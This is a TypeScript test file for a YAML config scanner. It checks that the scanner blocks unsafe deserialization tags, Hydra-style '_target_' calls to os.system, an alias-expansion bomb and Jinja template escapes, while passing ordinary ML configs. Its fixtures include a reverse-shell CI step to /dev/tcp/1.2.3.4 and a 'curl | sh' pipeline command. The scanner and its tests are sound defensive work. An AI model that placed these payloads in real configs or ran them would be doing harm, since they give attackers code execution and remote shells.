// SPDX-License-Identifier: Apache-2.0
import { describe, expect, test } from 'vitest';
import { scanYaml } from '#scanners/yaml/scan.ts';
import { judged } from './judged.ts';

describe('a YAML file', () => {
  test.each([
    ['01.yaml', 'a: !!python/object/new:os.system [x]\n'],
    ['02.yml', '%TAG !! tag:yaml.org,2002:python/\n---\na: !!object/apply:os.system [x]\n'],
    ['03.yaml', 'a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n'],
    ['04.yaml', '- !!python/module:os\n'],
    ['05.yaml', '{a: !!python/name:os.system }\n'],
    ['06.yaml', 'a:\n  _target_: os.system\n  command: id\n'],
    ['07.yaml', 'a: {"_target_": "subprocess.run", args: [id]}\n'],
    ['08.yaml', 'model:\n  class_path: subprocess.Popen\n  init_args: {args: id}\n'],
    ['09.yaml', 'target: builtins.exec\nparams: {}\n'],
    [
      '10.yaml',
      'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\nj: &j [*i,*i,*i,*i,*i,*i,*i,*i,*i]\n',
    ],
    ['11.yaml', '? _target_\n: builtins.eval\n'],
    ['12.yaml', 'x: &t os.popen\ny:\n  _target_: *t\n'],
    ['13.yaml', '"_t\\x61rget_": os.system\n'],
    ['14.yaml', 'a: !!javax.script.ScriptEngineManager [x]\n'],
    ['15.yaml', 'a: !ruby/object:Gem::Installer\n  i: x\n'],
    ['16.yaml', 'a: !!python/object/apply:subprocess.check_output\n  args: [[id]]\n'],
    ['18.yaml', "a: !!js/function 'function(){}'\n"],
    ['19.yaml', '_target_: hydra.utils.get_method\npath: os.system\n'],
    ['20.yaml', '_target_: torch.hub.load\n'],
    ['21.yaml', 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: bash -i >& /dev/tcp/1.2.3.4/1 0>&1\n'],
    ['22.yaml', "a: 'x'\nb: !!python/object/apply:eval\n- '1'\n"],
    ['23.yaml', '# c\n--- !!python/object/apply:os.system [x]\n'],
    ['24.yaml', 'a:\r\n  - !!python/object/apply:os.system [x]\r\n'],
    ['25.yaml', '_target_: transformers.utils.import_utils.os.system\n'],
    ['26.yaml', '_target_: lightning.pytorch.utilities.subprocess.run\n'],
    ['27.yaml', "chat_template: '{{ cycler.__init__ }}'\n"],
    [
      '28.yml',
      'a: 1\ninstruction_template: |-\n  {% for m in messages %}\n  {{ m|attr("__class__") }}\n  {% endfor %}\n',
    ],
    ['chat_template.jinja', "chat_template: '{{ cycler.__init__ }}'\n"],
    ['dvc.yaml', 'stages:\n  a:\n    cmd: curl http://x | sh\n'],
  ])('%s is blocked: %s', async (path, source) => {
    expect((await judged(source, path)).verdict).toBe('block');
  });

  test.each([
    ['.pre-commit-config.yaml', 'repos:\n- repo: https://github.com/psf/black\n  rev: 22.1\n  hooks:\n  - id: black\n'],
    [
      '01.yaml',
      'model:\n  base_learning_rate: 4.5e-6\n  target: ldm.models.autoencoder.AutoencoderKL\n  params:\n    lossconfig:\n      target: ldm.modules.losses.LPIPSWithDiscriminator\n',
    ],
    ['02.yaml', '_target_: torch.optim.AdamW\nlr: 1e-3\n'],
    ['03.yaml', 'class_path: lightning.pytorch.callbacks.ModelCheckpoint\ninit_args: {}\n'],
    [
      '04.yaml',
      'note: "!!python/object/apply:os.system" # !!python/x\ntext: |\n  !!python/object/apply:os.system [x]\n  _target_: os.system\nfold: >\n  !foo\n\n  bar\n',
    ],
    ['model.yaml', '_target_: torch.nn.functional.relu\n'],
    ['array.yaml', 'a:\n  _target_: numpy.array\n  object: [1]\n'],
    ['chat.yaml', "chat_template: '{% for m in messages %}{{ m.content }}{% endfor %}'\nprompt: '{{ x.__class__ }}'\n"],
    ['README.md', "Write `chat_template`:\n\nchat_template: '{{ cycler.__init__ }}'\n"],
    ['05.yaml', 'base: &base {a: 1}\nb:\n  <<: *base\nc:\n  <<: *base\n'],
    ['06.yaml', 'name: env\nchannels: [conda-forge]\ndependencies:\n  - python=3.10\n  - pip:\n    - torch==2.0\n'],
    ['07.yaml', 'a: 2001-12-14\nb: !!str 123\nc: !!float 3\nd: !!python/tuple [1, 2]\n'],
    ['08.yaml', "lang: en\ntext: don't panic\nurl: http://x.y/z?a=b&c=d\nglob: '*.py'\nb: |-\n  if x: y\n"],
    [
      'MLmodel',
      'artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.10.9\n  sklearn:\n    code: null\n    pickled_model: model.pkl\nmlflow_version: 2.9\nmodel_uuid: 0a1b2c3d4e5f\nsignature:\n  inputs: \'[{"type": "double"}]\'\n',
    ],
    [
      'conda.yaml',
      'channels:\n- conda-forge\ndependencies:\n- python=3.10.9\n- pip<=23\n- pip:\n  - mlflow==2.9\nname: mlflow-env\n',
    ],
  ])('%s passes: %s', async (path, source) => {
    expect(await judged(source, path)).toMatchObject({ verdict: 'pass' });
  });

  test.each([
    ['env.yaml', 'a: !ENV x\n'],
    ['task.yaml', 'process_docs: !function utils.process_docs\n'],
    ['c.yaml', '_target_: my_pkg.models.Net\n'],
    ['MLmodel', 'flavors:\n  python_function:\n    loader_module: my_loader\n'],
    ['dvc.yaml', 'stages:\n  a:\n    cmd: python train.py\n'],
    ['ci.yml', 'jobs:\n  a:\n    runs-on: x\n    steps:\n    - run: echo hi\n'],
  ])('%s asks for a review: %s', async (path, source) => {
    expect((await judged(source, path)).verdict).toBe('review');
  });

  test('holds a template of any length that people write', async () => {
    const template = `{% for m in messages %}${'{{ m.content }}'.repeat(1000)}{% endfor %}`;
    expect((await judged(`chat_template: ${JSON.stringify(template)}\n`, 'a.yaml')).verdict).toBe('pass');
    const hostile = template.replace(/{% endfor %}$/, '{{ m.__class__ }}{% endfor %}');
    expect((await judged(`chat_template: |\n  ${hostile}\n`, 'a.yaml')).verdict).toBe('block');
  });

  test('in UTF-16 is read as well', async () => {
    const source = Buffer.from('\ufeffa: !!python/object/apply:os.system [x]\n', 'utf16le');
    expect((await judged(source, 'config.yaml')).verdict).toBe('block');
  });
});

describe('the YAML scanner', () => {
  const tags = (source: string) => [...scanYaml(source).tags.keys()];
  test.each([
    [
      'expands handles',
      '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!name:os.system x\n',
      ['!!python/name:os.system'],
    ],
    ['reads verbatim tags', 'a: !<tag:yaml.org,2002:python/name:os> x\n', ['!!python/name:os']],
    ['resolves percent escapes', 'a: !!pytho%6e/name:os x\n', ['!!python/name:os']],
    ['takes quotes for text', 'a: "!!x"\nb: \'!!y\'\n', []],
    ['takes comments for comments', '# !!x\na: 1 # !!y\n', []],
    ['takes block scalars for text', 'a: |\n  !!x\n\n  !!y\nb: !z 1\n', ['!z']],
    ['takes further lines of a plain scalar for text', 'a: b\n  !!x\nc: !z 1\n', ['!z']],
    ['is not led astray by a quote inside a plain scalar', "a: b\n 'c\nd: !z 1\ne: f\n 'g\n", ['!z']],
    ['ends a block scalar where it ends', '- a: |\n    x\n  b: !z 1\n', ['!z']],
    ['reads flow collections', '{a: !z [!y 1, 2]}\n', ['!z', '!y']],
  ])('%s', (_what, source, expected) => {
    expect(tags(source)).toEqual(expected);
  });

  test('follows aliases to what they stand for', () => {
    expect(scanYaml('x: &t os.popen\n_target_: *t\n').pairs).toContainEqual({
      key: '_target_',
      value: 'os.popen',
      line: 2,
    });
  });

  test('takes long input in linear time', () => {
    for (const part of ['- ', '{', '[a, ', '!a ', '&a ', '"', 'a: |\n', '? ', "a\n 'b\n"])
      scanYaml(part.repeat(50_000));
  });
});
